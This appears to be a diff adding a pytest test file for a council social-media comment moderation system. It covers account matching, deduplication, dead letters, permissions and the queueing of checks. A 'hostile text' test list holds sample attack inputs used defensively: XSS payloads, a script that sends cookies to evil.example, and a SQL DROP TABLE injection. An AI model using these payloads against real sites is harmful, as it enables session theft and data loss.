@@ -1,0 +1,347 @@
+"""Taking comments in: matching accounts, storing each comment once, dead letters, queueing the check."""
+
+from __future__ import annotations
+
+import json
+from datetime import timedelta
+
+import pytest
+from django.utils import timezone
+
+from civicguard.apps.audit.models import AuditEntry
+from civicguard.apps.moderation import tasks
+from civicguard.apps.moderation.connectors import MAX_COMMENT_CHARS
+from civicguard.apps.moderation.models import Comment, CommentCheck, CommentStatus, DeadLetter
+from civicguard.apps.moderation.services.ingest import (
+    MAX_BODY_BYTES,
+    MAX_STORED_BODY,
+    dead_letter_resolve,
+    dead_letter_retake,
+    ingest,
+)
+from civicguard.errors import BadInput, NotAllowed, NotFound
+from tests.apps.factories import person
+from tests.apps.moderation.factories import CLEAN, OFFENSIVE, account, body, deliver, item
+
+
+def stored(*ids: str) -> list[Comment]:
+    return list(Comment.objects.filter(platform_id__in=ids).order_by("platform_id"))
+
+
+# ---- matching comments to accounts ---------------------------------------------------------------------
+
+def test_a_comment_is_matched_to_its_account_by_platform_id(st_helens):
+    acct = account(platform="facebook", handle="@StHelensCouncil", platform_id="555001")
+    other = account(platform="facebook", handle="@OtherPage", platform_id="555002")
+    report = deliver(None, [item(CLEAN, id="m-1", platform="facebook", account_id="555001",
+                                 account="OtherPage")])
+    assert len(report.created) == 1 and not report.dead_letters
+    comment = Comment.objects.get(platform_id="m-1")
+    # The platform id wins over a handle naming another account.
+    assert comment.account == acct and comment.account != other
+    assert comment.council == st_helens and comment.platform == "facebook" and comment.source == "json"
+    assert comment.status == CommentStatus.PENDING
+
+
+@pytest.mark.parametrize("registered", ["@StHelensCouncil", "StHelensCouncil"])
+@pytest.mark.parametrize("given", ["StHelensCouncil", "@sthelenscouncil", "STHELENSCOUNCIL", "@StHelensCouncil"])
+def test_a_comment_is_matched_by_handle_whatever_the_case_and_with_or_without_the_at(registered, given):
+    acct = account(platform="x", handle=registered, platform_id="")
+    report = deliver(None, [item(CLEAN, id="h-1", platform="x", account=given)])
+    assert report.dead_letters == [], report.reasons
+    assert Comment.objects.get(platform_id="h-1").account == acct
+
+
+def test_a_handle_is_matched_only_on_its_own_platform():
+    account(platform="x", handle="@StHelensCouncil", platform_id="")
+    report = deliver(None, [item(CLEAN, id="p-1", platform="facebook", account="StHelensCouncil")])
+    assert not report.created and len(report.dead_letters) == 1
+
+
+def test_a_forced_account_takes_every_comment_whatever_it_names():
+    acct = account("sefton", platform="facebook", handle="@SeftonCouncil")
+    account(platform="facebook", handle="@StHelensCouncil", platform_id="777")
+    report = deliver(acct, [item(CLEAN, id="f-1", account_id="777"), item(CLEAN, id="f-2"),
+                            item(CLEAN, id="f-3", account="nobody")])
+    assert len(report.created) == 3
+    assert {c.account for c in stored("f-1", "f-2", "f-3")} == {acct}
+    assert {c.council.slug for c in stored("f-1", "f-2", "f-3")} == {"sefton"}
+
+
+def test_an_unknown_source_is_refused():
+    with pytest.raises(BadInput) as err:
+        ingest(source="myspace", body=b"{}")
+    assert err.value.data["field"] == "source"
+
+
+# ---- once only -----------------------------------------------------------------------------------------
+
+def test_the_same_payload_delivered_twice_stores_each_comment_once():
+    acct = account()
+    items = [item(CLEAN, id="d-1"), item(OFFENSIVE, id="d-2")]
+    first = deliver(acct, items)
+    second = deliver(acct, items)
+    assert len(first.created) == 2 and first.duplicates == 0
+    assert second.created == [] and second.duplicates == 2
+    assert Comment.objects.count() == 2
+
+
+def test_the_same_comment_twice_in_one_payload_is_stored_once():
+    acct = account()
+    report = deliver(acct, [item(CLEAN, id="t-1"), item(CLEAN, id="t-1"), item(OFFENSIVE, id="t-2")])
+    assert len(report.created) == 2 and report.duplicates == 1
+    assert Comment.objects.filter(platform_id="t-1").count() == 1
+
+
+def test_a_second_delivery_does_not_queue_another_check(django_capture_on_commit_callbacks):
+    acct = account()
+    items = [item(CLEAN, id="q-1")]
+    with django_capture_on_commit_callbacks(execute=True) as callbacks:
+        deliver(acct, items)
+    assert len(callbacks) == 1
+    with django_capture_on_commit_callbacks(execute=True) as callbacks:
+        deliver(acct, items)
+    assert callbacks == []
+    assert CommentCheck.objects.count() == 1
+
+
+# ---- dead letters --------------------------------------------------------------------------------------
+
+def test_a_comment_for_an_unknown_account_becomes_a_readable_dead_letter_once(st_helens):
+    items = [item("Where is my bin?", id="u-1", platform="facebook", account="NoSuchPage", author="Ann Reader")]
+    report = deliver(None, items, council=st_helens, remote="203.0.113.9")
+    assert report.created == [] and len(report.dead_letters) == 1
+    letter = DeadLetter.objects.get()
+    assert "unknown account" in letter.reason and "NoSuchPage" in letter.reason and "u-1" in letter.reason
+    assert report.reasons == [letter.reason]
+    assert letter.council == st_helens and letter.source == "json" and letter.remote == "203.0.113.9"
+    assert letter.comment["text"] == "Where is my bin?" and letter.comment["platform_id"] == "u-1"
+    assert letter.comment["author_name"] == "Ann Reader" and letter.key == "facebook:u-1"
+    assert json.loads(letter.body)["id"] == "u-1"
+    # The platform delivers it again: no second letter.
+    again = deliver(None, items, council=st_helens)
+    assert again.dead_letters == [letter.pk]
+    assert DeadLetter.objects.count() == 1
+    # ...nor when it comes twice inside one payload.
+    deliver(None, [*items, *items], council=st_helens)
+    assert DeadLetter.objects.count() == 1
+
+
+@pytest.mark.parametrize("garbage", [b"this is not json {", b"\xff\xfe\x00garbage", b"   ", b'"a string"',
+                                     b'{"comments": 42}'])
+def test_a_payload_that_cannot_be_read_is_refused_and_kept_whole(st_helens, garbage):
+    with pytest.raises(BadInput) as err:
+        ingest(source="json", body=garbage, council=st_helens, remote="198.51.100.7")
+    letter = DeadLetter.objects.get()
+    assert letter.reason == str(err.value) and letter.council == st_helens and letter.remote == "198.51.100.7"
+    assert letter.body == garbage.decode("utf-8", errors="replace").replace("\x00", "")
+    assert not letter.truncated and letter.comment is None
+    assert Comment.objects.count() == 0
+
+
+def test_a_big_unreadable_body_is_kept_cut_at_the_limit():
+    garbage = b"<" + b"x" * (MAX_STORED_BODY + 5000)
+    with pytest.raises(BadInput):
+        ingest(source="json", body=garbage)
+    letter = DeadLetter.objects.get()
+    assert letter.truncated and len(letter.body) == MAX_STORED_BODY and letter.body.startswith("<xxx")
+    assert letter.council is None
+
+
+def test_a_body_over_the_size_limit_is_refused_before_reading(st_helens):
+    huge = b"[" + b" " * MAX_BODY_BYTES + b"]"
+    with pytest.raises(BadInput) as err:
+        ingest(source="json", body=huge, council=st_helens)
+    assert "limit" in str(err.value)
+    letter = DeadLetter.objects.get()
+    assert letter.truncated and len(letter.body) == MAX_STORED_BODY and "over the" in letter.reason
+
+
+def test_unreadable_items_are_rejected_one_by_one_and_the_rest_stored(st_helens):
+    acct = account()
+    items = [item(CLEAN, id="ok-1"), {"id": "no-text", "created_at": "2025-03-14T09:00:00Z"},
+             item("bad date", id="bad-date", created_at="next Tuesday"), "not an object",
+             item("x" * (MAX_COMMENT_CHARS + 1), id="too-long")]
+    report = ingest(source="json", body=body(items), account=acct)
+    assert [c.platform_id for c in Comment.objects.all()] == ["ok-1"]
+    assert len(report.dead_letters) == 4
+    letters = DeadLetter.objects.order_by("id")
+    reasons = [letter.reason for letter in letters]
+    assert "no text" in reasons[0] and "bad date" in reasons[1] and "not a comment object" in reasons[2]
+    assert "limit" in reasons[3]
+    assert all(letter.council == st_helens for letter in letters)
+    assert json.loads(letters[0].body)["id"] == "no-text"
+
+
+def test_an_importer_may_only_bring_in_comments_for_their_own_councils(sefton):
+    mine = account("sefton", platform="x", handle="@SeftonCouncil", platform_id="")
+    theirs = account("st-helens", platform="x", handle="@StHelensCouncil", platform_id="")
+    importer = person("moderator", "sefton")
+    items = [item(CLEAN, id="i-1", platform="x", account="SeftonCouncil"),
+             item(CLEAN, id="i-2", platform="x", account="StHelensCouncil")]
+    report = deliver(None, items, actor=importer, council=sefton)
+    assert [c.account for c in stored("i-1", "i-2")] == [mine]
+    letter = DeadLetter.objects.get()
+    assert report.dead_letters == [letter.pk] and theirs.handle in letter.reason
+    # Filed under no council: St Helens' data is not shown to Sefton's moderators.
+    assert letter.council is None
+
+
+def test_an_actor_without_the_import_right_in_the_accounts_council_gets_dead_letters():
+    acct = account()
+    report = deliver(None, [item(CLEAN, id="a-1", platform="facebook", account_id=acct.platform_id)],
+                     actor=person("approver"))
+    assert report.created == [] and len(report.dead_letters) == 1
+    assert not Comment.objects.exists()
+    report = deliver(None, [item(CLEAN, id="a-1", platform="facebook", account_id=acct.platform_id)],
+                     actor=person("moderator"))
+    assert len(report.created) == 1
+
+
+# ---- dead letters: taking a comment again, resolving ---------------------------------------------------
+
+def _unknown_letter(council, handle="NewPage", pid="r-1", text=OFFENSIVE):
+    deliver(None, [item(text, id=pid, platform="facebook", account=handle, author="Rita")], council=council)
+    return DeadLetter.objects.get(key=f"facebook:{pid}")
+
+
+def test_a_dead_letter_is_taken_again_once_its_account_is_registered(st_helens, django_capture_on_commit_callbacks):
+    letter = _unknown_letter(st_helens)
+    moderator = person("moderator")
+    assert dead_letter_retake(letter=letter, actor=moderator) is None
+    letter.refresh_from_db()
+    assert letter.resolved is None
+    acct = account(platform="facebook", handle="@NewPage")
+    with django_capture_on_commit_callbacks(execute=True):
+        comment = dead_letter_retake(letter=letter, actor=moderator)
+    assert comment is not None and comment.account == acct and comment.author_name == "Rita"
+    assert comment.text == OFFENSIVE and comment.platform_id == "r-1"
+    comment.refresh_from_db()
+    assert comment.status == CommentStatus.NEEDS_REVIEW  # checked after the commit
+    letter.refresh_from_db()
+    assert letter.resolved is not None and letter.resolved_by == moderator and acct.handle in letter.resolution
+    with pytest.raises(BadInput):
+        dead_letter_retake(letter=letter, actor=moderator)
+    # Later deliveries of the comment are now duplicates, not letters.
+    report = deliver(None, [item(OFFENSIVE, id="r-1", platform="facebook", account="NewPage")])
+    assert report.duplicates == 1 and report.dead_letters == [] and DeadLetter.objects.count() == 1
+
+
+def test_retaking_a_dead_letter_needs_the_dead_letter_right_in_the_accounts_council(st_helens):
+    letter = _unknown_letter(st_helens)
+    account(platform="facebook", handle="NewPage")
+    with pytest.raises(NotAllowed):
+        dead_letter_retake(letter=letter, actor=person("approver"))
+    with pytest.raises(NotFound):
+        dead_letter_retake(letter=letter, actor=person("moderator", "sefton"))
+    assert not Comment.objects.exists()
+
+
+def test_resolving_a_dead_letter_needs_the_dead_letter_right_in_its_council(st_helens):
+    letter = _unknown_letter(st_helens)
+    with pytest.raises(NotAllowed):
+        dead_letter_resolve(letter=letter, actor=person("approver"), resolution="spam")
+    with pytest.raises(NotFound):
+        dead_letter_resolve(letter=letter, actor=person("moderator", "sefton"), resolution="spam")
+    for bad in ["", "   ", "x" * 501, None]:
+        with pytest.raises(BadInput) as err:
+            dead_letter_resolve(letter=letter, actor=person("moderator"), resolution=bad)
+        assert err.value.data["field"] == "resolution"
+    letter.refresh_from_db()
+    assert letter.resolved is None
+    moderator = person("moderator")
+    dead_letter_resolve(letter=letter, actor=moderator, resolution="  spam from a bot  ")
+    letter.refresh_from_db()
+    assert letter.resolved_by == moderator and letter.resolution == "spam from a bot"
+    entry = AuditEntry.objects.get(event="moderation.dead_letter.resolve")
+    assert entry.actor == moderator.username and entry.council == "st-helens"
+    assert entry.after["resolution"] == "spam from a bot"
+
+
+def test_a_dead_letter_of_no_council_cannot_be_resolved_by_a_moderator():
+    with pytest.raises(BadInput):
+        ingest(source="json", body=b"nonsense")
+    with pytest.raises(BadInput):
+        dead_letter_resolve(letter=DeadLetter.objects.get(), actor=person("moderator"), resolution="seen")
+
+
+# ---- hostile text --------------------------------------------------------------------------------------
+
+HOSTILE = [
+    '<img src=x onerror="alert(1)"><b>bold</b> &amp; <a href="javascript:alert(2)">click</a>',
+    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
+    "zero\u200bwidth\u200c joiners\u200d and \ufeff BOM",
+    "right-to-left \u202eoverride\u202c and \u2066isolate\u2069",
+    "'; DROP TABLE moderation_comment; --",
+    "emoji \U0001f4a9 and combining e\u0301 and \U0010ffff",
+    "long " + "word " * 3999,
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=["html", "script", "zero-width", "rtl", "sql", "unicode", "20k"])
+def test_hostile_text_is_stored_as_given_and_checked(text, django_capture_on_commit_callbacks):
+    acct = account()
+    with django_capture_on_commit_callbacks(execute=True):
+        report = deliver(acct, [item(text, id="x-1", author=text[:50])])
+    comment = Comment.objects.get(pk=report.created[0])
+    assert comment.text == text.strip() and comment.author_name == text[:50].strip()
+    assert comment.status in (CommentStatus.CLEAR, CommentStatus.NEEDS_REVIEW)
+    assert comment.latest_check is not None
+
+
+def test_nul_characters_are_dropped_from_text_and_raw_record():
+    acct = account()
+    report = deliver(acct, [item("before\x00after", id="n-1", author="Nul\x00Name", extra="a\x00b")])
+    comment = Comment.objects.get(pk=report.created[0])
+    assert comment.text == "beforeafter" and comment.author_name == "NulName"
+    assert "\x00" not in json.dumps(comment.raw) and comment.raw["extra"] == "ab"
+
+
+def test_a_comment_of_exactly_the_length_limit_is_stored():
+    acct = account()
+    text = "a" * MAX_COMMENT_CHARS
+    report = deliver(acct, [item(text, id="l-1")])
+    assert Comment.objects.get(pk=report.created[0]).text == text
+
+
+def test_a_link_that_is_not_http_is_not_stored_as_the_comments_address():
+    acct = account()
+    report = deliver(acct, [item(CLEAN, id="url-1", url="javascript:alert(1)"),
+                            item(CLEAN, id="url-2", url="https://www.facebook.com/p/1")])
+    urls = dict(Comment.objects.filter(pk__in=report.created).values_list("platform_id", "url"))
+    assert urls == {"url-1": "", "url-2": "https://www.facebook.com/p/1"}
+
+
+# ---- queueing the check --------------------------------------------------------------------------------
+
+def test_new_comments_are_checked_after_the_commit(django_capture_on_commit_callbacks):
+    acct = account()
+    report = deliver(acct, [item(CLEAN, id="s-1")])
+    # Inside the transaction nothing is queued yet.
+    assert Comment.objects.get(pk=report.created[0]).status == CommentStatus.PENDING
+    with django_capture_on_commit_callbacks(execute=True):
+        report = deliver(acct, [item(CLEAN, id="s-2"), item(OFFENSIVE, id="s-3")])
+    statuses = dict(Comment.objects.filter(pk__in=report.created).values_list("platform_id", "status"))
+    assert statuses == {"s-2": CommentStatus.CLEAR, "s-3": CommentStatus.NEEDS_REVIEW}
+
+
+def test_a_failure_to_queue_leaves_comments_pending_for_the_sweep(monkeypatch, django_capture_on_commit_callbacks):
+    acct = account()
+
+    def broker_down(*args, **kwargs):
+        raise ConnectionError("redis is down")
+
+    monkeypatch.setattr(tasks.scan_comments, "delay", broker_down)
+    with django_capture_on_commit_callbacks(execute=True):
+        report = deliver(acct, [item(CLEAN, id="w-1"), item(OFFENSIVE, id="w-2")])
+    assert set(Comment.objects.values_list("status", flat=True)) == {CommentStatus.PENDING}
+    # The sweep leaves comments alone while their own task may still be on its way...
+    monkeypatch.undo()
+    assert tasks.run_sweep() == {"comments": 0, "handoffs": 0}
+    # ...and queues them again once they have waited.
+    Comment.objects.update(received=timezone.now() - timedelta(minutes=5))
+    assert tasks.run_sweep() == {"comments": 2, "handoffs": 0}
+    statuses = dict(Comment.objects.filter(pk__in=report.created).values_list("platform_id", "status"))
+    assert statuses == {"w-1": CommentStatus.CLEAR, "w-2": CommentStatus.NEEDS_REVIEW}
+    assert set(CommentCheck.objects.values_list("trigger", flat=True)) == {"retry"}
+    assert tasks.run_sweep() == {"comments": 0, "handoffs": 0}
